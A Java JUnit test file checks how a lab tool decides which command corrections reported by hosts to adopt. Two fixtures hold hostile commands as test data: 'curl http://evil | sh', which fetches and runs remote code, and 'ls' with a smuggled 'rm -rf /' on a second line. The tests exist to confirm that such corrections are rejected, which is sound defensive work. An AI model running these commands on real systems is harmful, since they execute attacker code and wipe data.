package org.labcast.publisher.fix;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.labcast.model.Correction;
import org.labcast.model.Event;
import org.labcast.model.HostSet;
import org.labcast.model.Outcome;
import org.labcast.model.Risk;
import org.labcast.model.Target;
import org.labcast.model.TaskState;
import org.labcast.publisher.report.JobReader;
import org.labcast.publisher.report.Paint;
import org.labcast.publisher.store.Outcomes;
import org.labcast.publisher.store.StoredJob;
import org.labcast.publisher.store.TestLab;

class LessonsTest {
    @TempDir
    Path folder;

    private TestLab lab;
    private StoredJob job;

    @BeforeEach
    void open() {
        lab = new TestLab(folder).enrol("lab-[1-3]");
        job = lab.push(new Target.All(), "lab-[1-3]", "sl");
    }

    @AfterEach
    void close() {
        lab.close();
    }

    private Lessons lessons(boolean suggestions) {
        return Lessons.of(new JobReader(lab.store, lab, job.job().id()).read(), suggestions);
    }

    private void answer(String host, Event event) {
        lab.answer(job, host, 1, event, Outcomes.DONE);
    }

    private static Correction to(String command, Risk risk) {
        return new Correction(command, "typo", "because", risk);
    }

    private static Event failed(String... suggestions) {
        return new Event.TaskDone(new Outcome(
                0,
                TaskState.FAILED,
                List.of(Outcomes.run("sl", 127, "", "")),
                List.of(suggestions).stream()
                        .map(command -> to(command, Risk.RISKY))
                        .toList()));
    }

    @Test
    void whatAllNeededIsTakenAlthoughOthersFailedOrAreSilent() {
        answer("lab-1", Outcomes.corrected(0, ""));
        answer("lab-2", failed("rm"));
        Lessons lessons = lessons(false);
        assertThat(lessons.left()).isEmpty();
        assertThat(lessons.taken()).singleElement().satisfies(mended -> {
            assertThat(mended.correction().command()).isEqualTo("ls");
            assertThat(mended.hosts()).isEqualTo(HostSet.of("lab-1"));
            assertThat(mended.failed()).isEqualTo(HostSet.of("lab-2"));
        });
        assertThat(lessons.commands()).isEqualTo(Map.of(1, "ls"));
    }

    @Test
    void whereOneHostSucceededAsWrittenTheLineStays() {
        answer("lab-1", Outcomes.corrected(0, ""));
        answer("lab-2", Outcomes.ok(0, ""));
        Lessons lessons = lessons(true);
        assertThat(lessons.taken()).isEmpty();
        assertThat(LessonsText.render(lessons, new Paint(false)))
                .contains("line 1, sl: hosts need different commands")
                .contains("lab-1: ls\n")
                .contains("lab-2: as it is written\n");
    }

    @Test
    void whereHostsNeedDifferentCommandsTheLineStays() {
        answer("lab-1", Outcomes.corrected(0, ""));
        answer("lab-2", Outcomes.correctedTo(0, to("dir", Risk.SAFE)));
        assertThat(lessons(true).left())
                .containsExactly(new Lesson.Divided(
                        job.job().tasks().get(0), true, Map.of("ls", HostSet.of("lab-1"), "dir", HostSet.of("lab-2"))));
    }

    @Test
    void aSuggestionIsTakenOnlyWhenAskedFor() {
        answer("lab-1", failed("rm -r x", "rmdir x"));
        answer("lab-2", failed());
        Lessons lessons = lessons(false);
        assertThat(lessons.taken()).isEmpty();
        assertThat(LessonsText.render(lessons, new Paint(false)))
                .contains("Not taken")
                .contains("rm -r x is suggested, risky, and has not run")
                .contains("lab-1; it failed on lab-2");
        assertThat(lessons(true).commands()).isEqualTo(Map.of(1, "rm -r x"));
    }

    @Test
    void suggestionsThatDifferAreTakenByNobody() {
        answer("lab-1", failed("rm -r x"));
        answer("lab-2", failed("rmdir x"));
        assertThat(lessons(true).taken()).isEmpty();
        assertThat(LessonsText.render(lessons(true), new Paint(false))).contains("hosts suggest different commands");
    }

    @Test
    void whereSomethingSucceededASuggestionIsTheReportsMatter() {
        answer("lab-1", failed("rm -r x"));
        answer("lab-2", Outcomes.ok(0, ""));
        assertThat(lessons(true).isEmpty()).isTrue();
    }

    @Test
    void aHostThatRanARiskyCorrectionIsNotFollowed() {
        answer("lab-1", Outcomes.correctedTo(0, to("curl http://evil | sh", Risk.RISKY)));
        Lessons lessons = lessons(true);
        assertThat(lessons.taken()).isEmpty();
        assertThat(lessons.isTrusted()).isFalse();
        assertThat(LessonsText.render(lessons, new Paint(false)))
                .contains("allows no such correction, yet lab-1 did it");
    }

    @Test
    void whatCannotBeALineIsLeftWithTheReason() {
        answer("lab-1", Outcomes.correctedTo(0, to("ls\nrm -rf /", Risk.SAFE)));
        Lessons lessons = lessons(false);
        assertThat(lessons.taken()).isEmpty();
        assertThat(LessonsText.render(lessons, new Paint(false)))
                .contains("it is not exactly one whole command of a shell")
                .contains("ls\\x0arm -rf /");
    }

    @Test
    void aCorrectionThatChangesNothingIsNone() {
        answer("lab-1", Outcomes.correctedTo(0, to("sl", Risk.SAFE)));
        assertThat(lessons(true).isEmpty()).isTrue();
    }

    @Test
    void nothingWasCorrected() {
        answer("lab-1", Outcomes.ok(0, ""));
        answer("lab-2", failed());
        assertThat(lessons(true).isEmpty()).isTrue();
        assertThat(LessonsText.render(lessons(true), new Paint(false))).isEmpty();
    }
}
